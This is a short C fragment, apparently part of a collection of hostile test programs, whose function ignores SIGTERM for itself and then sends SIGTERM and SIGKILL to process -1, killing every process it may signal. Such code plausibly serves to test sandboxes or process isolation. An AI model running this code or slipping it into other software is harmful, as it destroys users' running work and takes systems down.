// Kills every process that it may signal.
#include "hostile.h"

static void attack(void) {
    signal(SIGTERM, SIG_IGN);
    kill(-1, SIGTERM);
    kill(-1, SIGKILL);
}
